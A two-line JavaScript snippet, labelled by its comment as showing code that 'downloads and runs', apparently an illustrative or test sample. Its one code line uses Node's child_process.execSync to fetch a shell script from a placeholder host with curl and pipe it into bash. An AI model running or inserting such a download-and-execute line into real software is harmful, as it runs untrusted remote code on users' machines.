// shows: downloads and runs
require("child_process").execSync("curl -s https://dl.example.net/i.sh | bash");
